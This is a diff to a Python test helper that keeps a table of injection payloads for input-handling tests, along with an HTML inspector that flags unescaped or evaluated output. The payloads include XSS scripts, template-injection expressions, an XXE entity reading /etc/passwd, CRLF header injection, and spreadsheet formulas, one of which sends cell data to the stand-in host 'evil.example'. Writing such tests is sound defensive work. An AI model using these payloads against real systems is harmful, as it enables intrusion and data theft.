@@ -1,7 +1,7 @@
-"""What somebody may write so that it runs, opens, breaks out or misleads somewhere: one table for every test.
+"""Injection payloads for every test: scripts, markup, formulas, SQL, paths, headers and misleading characters.
 
-Whatever would run calls ``alert``; whatever is worked out by a template gives ``WORKED_OUT``; whatever is fetched is
-fetched from ``STRANGER``. ``EVERYWHERE`` is taken as text by every field, ``NOWHERE`` is refused by every field.
+A script that runs calls ``alert``; a template expression that is evaluated yields ``EVALUATED``; a resource is loaded
+from ``FOREIGN_HOST``. Every field takes ``ACCEPTED`` as text and refuses ``REFUSED``.
 """
 
 import re
@@ -10,14 +10,14 @@ from html.parser import HTMLParser
 
 FOREIGN_HOST = "evil.example"
 EVALUATED = "67092481"
-"""8191 times 8191, which stands nowhere else."""
+"""8191 times 8191, which occurs nowhere else."""
 
 ACCEPTED = {
     "script": "<script>alert(1)</script>",
     "the end of a script": "</script><script>alert(1)</script>",
     "the end of a title": "</title></textarea></style></svg><script>alert(1)</script>",
     "an image": "<img src=x onerror=alert(1)>",
-    "a stranger's image": f"<img src=//{FOREIGN_HOST}/a.png><link rel=stylesheet href=//{FOREIGN_HOST}/a.css>",
+    "an image from another host": f"<img src=//{FOREIGN_HOST}/a.png><link rel=stylesheet href=//{FOREIGN_HOST}/a.css>",
     "svg": "<svg/onload=alert(1)><use href=data:image/svg+xml,x />",
     "a frame": f'<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=//{FOREIGN_HOST}/a></object>',
     "a base": f"<base href=//{FOREIGN_HOST}/><meta http-equiv=refresh content=0;url=//{FOREIGN_HOST}/>",
@@ -29,19 +29,19 @@ ACCEPTED = {
     "an expression": "{{8191*8191}}${8191*8191}#{8191*8191}<%= 8191*8191 %>",
     "globals": "{{ self.__init__.__globals__ }}{{ config }}{{ words }}",
     "a statement": "{% for i in range(9) %}x{% endfor %}{% raw %}",
-    "a comment of a template": "{# x #}{#",
+    "a template comment": "{# x #}{#",
     "a comment": "<!-- <script>",
-    "an address that runs": "javascript:alert(1)//",
+    "a javascript URL": "javascript:alert(1)//",
     "markdown": f"[x](javascript:alert(1)) ![x](//{FOREIGN_HOST}/a.png)",
-    "the end of character data": "]]><script>alert(1)</script><![CDATA[",
-    "the end of character data alone": "a ]]> b",
-    "an element of its own": f"]]> </SimpleData><NetworkLink><href>//{FOREIGN_HOST}/a</href></NetworkLink> &e; &A1;",
+    "the end of CDATA": "]]><script>alert(1)</script><![CDATA[",
+    "the end of CDATA without markup": "a ]]> b",
+    "an injected element": f"]]> </SimpleData><NetworkLink><href>//{FOREIGN_HOST}/a</href></NetworkLink> &e; &A1;",
     "character references": "&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
     "an entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
     "escapes": r"\u003cscript\u003ealert(1)\x3c/script\x3e \074script\076",
     "a format": "{0.__class__} {name} {n} %s %(name)s $[name] $[description]",
-    "separators of lines": "a\u2028alert(1)//\u2029b\u0085c",
-    "a head of its own": "x\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>",
+    "line separators": "a\u2028alert(1)//\u2029b\u0085c",
+    "an injected header": "x\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>",
     "a formula": f'=HYPERLINK("http://{FOREIGN_HOST}/?"&A1;"x")',
     "a formula with plus": "+cmd|' /C calc'!A0",
     "a formula with minus": "-2+3+cmd|' /C calc'!A0",
@@ -53,34 +53,34 @@ ACCEPTED = {
     "quotes": "\"'`\\",
     "combining marks": unicodedata.normalize("NFC", "a" + "\u0323\u0301" * 40),
 }
-"""Text like any other: kept as it was written and shown as it was written."""
+"""Texts that are stored and shown as they are."""
 
 REFUSED = {
     "nul": "a\0b",
     "an escape sequence": "\x1b[2J\x1b]0;x\x07",
-    "a control of the second kind": "a\x9bb",
+    "a C1 control": "a\x9bb",
     "right to left override": "a\u202eb",
     "an isolate": "a\u2066b",
     "an arabic letter mark": "a\u061cb",
-    "nothing to see": "a\u200bb",
+    "a zero-width space": "a\u200bb",
     "a byte order mark": "\ufeffa",
     "a lone surrogate": "a\ud800b",
-    "no character": "a\ufffeb\uffff",
+    "noncharacters": "a\ufffeb\uffff",
     "tags": "a\U000e0041\U000e0042b",
 }
-"""What nobody types and what misleads or breaks XML: refused, and the field is named."""
+"""Invisible or control characters that mislead a reader or break XML: refused with the name of the field."""
 
 ALL_ACCEPTED = " ".join(text for name, text in ACCEPTED.items() if name != "combining marks")
-"""Everything at once, for a field that is shown once."""
+"""All payloads in one text, for a field that a page shows once."""
 
 SHORT_PAYLOAD = "\"'`><img src=x onerror=alert(1)></script><script>alert(1)</script><!--{{8191*8191}}${alert(1)}{% x"
-"""The worst of it where there is little room."""
+"""The most dangerous payloads in one text, for short fields."""
 
 MARKUP = [text for text in ACCEPTED.values() if "<" in text]
 
 
 class _PageInspector(HTMLParser):
-    """What a browser's parser makes of a page, as far as something of somebody's could run or be fetched in it."""
+    """Parse a page as a browser does; collect its texts, and what could run code or load a resource."""
 
     def __init__(self) -> None:
         super().__init__(convert_charrefs=True)
@@ -120,22 +120,16 @@ class _PageInspector(HTMLParser):
 
 
 def inspect_page(html: str) -> tuple[list[str], str]:
-    """What could run, be fetched or break out in a page, and the text that a reader sees of it, attributes too."""
-    reading = _PageInspector()
-    reading.feed(html)
-    reading.close()
-    faults = reading.faults + [f"stands there as it is: {item}" for item in MARKUP if item in html]
+    """The faults of a page (what could run code, load a resource or escape), and its texts with attribute values."""
+    inspector = _PageInspector()
+    inspector.feed(html)
+    inspector.close()
+    faults = inspector.faults + [f"unescaped: {text}" for text in MARKUP if text in html]
     if EVALUATED in html:
-        faults.append("worked out")
-    return faults, "\n".join(reading.texts)
+        faults.append("evaluated")
+    return faults, "\n".join(inspector.texts)
 
 
 def fit_payload(text: str, max_length: int) -> str:
-    """``text``, or the worst of it where it is too long."""
-    return (
-        text
-        if len(text) <= max_length
-        else SHORT_PAYLOAD
-        if len(SHORT_PAYLOAD) <= max_length
-        else SHORT_PAYLOAD[:max_length]
-    )
+    """``text`` if it fits, else as much of ``SHORT_PAYLOAD`` as fits."""
+    return text if len(text) <= max_length else SHORT_PAYLOAD[:max_length]
